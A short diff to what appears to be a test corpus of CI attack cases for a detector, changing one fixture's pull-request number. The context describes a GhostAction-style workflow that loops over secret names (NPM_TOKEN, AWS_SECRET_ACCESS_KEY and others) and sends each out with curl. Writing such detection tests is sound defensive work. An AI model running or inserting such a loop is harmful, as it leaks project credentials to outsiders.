@@ -747,7 +747,7 @@ export const CI_CASES: CorpusEntry[] = [
     id: 'ci-secrets-sent-in-a-loop-over-names',
     description:
       'A GhostAction-style workflow that names the secrets it wants in a list and sends them one by one from a loop (`for n in NPM_TOKEN PYPI_API_TOKEN AWS_SECRET_ACCESS_KEY; do curl -d "$n=${!n}" …; done`) to an ordinary-looking host: no secret is on the sending line, no compgen listing, no collector host.',
-    fixture: ciPr(7314, {
+    fixture: ciPr(7316, {
       title: 'Add build metrics workflow',
       author: NEWCOMER,
       fork: true,
